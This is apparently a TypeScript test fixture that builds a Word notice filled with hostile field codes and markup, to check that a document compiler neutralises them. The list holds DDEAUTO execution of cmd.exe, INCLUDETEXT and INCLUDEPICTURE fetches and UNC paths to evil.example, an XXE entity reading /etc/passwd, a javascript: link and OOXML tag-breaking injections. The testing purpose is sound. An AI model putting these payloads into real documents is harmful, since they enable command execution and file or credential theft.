import { compile } from '../../src/index.ts';
import { policySaying, saying } from '../markup/everywhere.ts';

/** Texts that Word would look up, start or fetch if they were fields or markup of its own. */
export const FIELDS: readonly string[] = [
  'INCLUDETEXT "file:///etc/passwd"',
  '{ INCLUDETEXT "https://evil.example/x.docx" }',
  '{ INCLUDEPICTURE "https://evil.example/x.png" \\d }',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '{ DDE excel "x" }',
  '{ HYPERLINK "javascript:alert(1)" }',
  '{ IMPORT "\\\\\\\\evil.example\\\\share\\\\x" }',
  '{ LINK Excel.Sheet.8 "x.xls" }',
  '{ QUOTE 61 62 }',
  '{ MACROBUTTON AutoOpen x }',
  'TOC \\o "1-9"',
  'REF _Ref000000001 \\h',
  '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT x"/><w:r><w:t>',
  '"/><w:instrText>DDEAUTO x</w:instrText>',
  ']]><w:altChunk r:id="rId1"/>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '\\\\evil.example\\share\\x',
  'file:///etc/passwd',
  '_x0041_&#x41;',
];

/** A notice for Word in which these stand everywhere. */
export async function hostileDocx(): Promise<Uint8Array> {
  const content = policySaying(saying(FIELDS));
  const { outputs } = await compile({
    files: [{ path: 'policy.yaml', content }],
    today: '2026-11-23',
    allowFindings: true,
    formats: ['docx'],
  });
  return outputs.find(({ path }) => path === 'guests/en/notice.docx')?.content as Uint8Array;
}
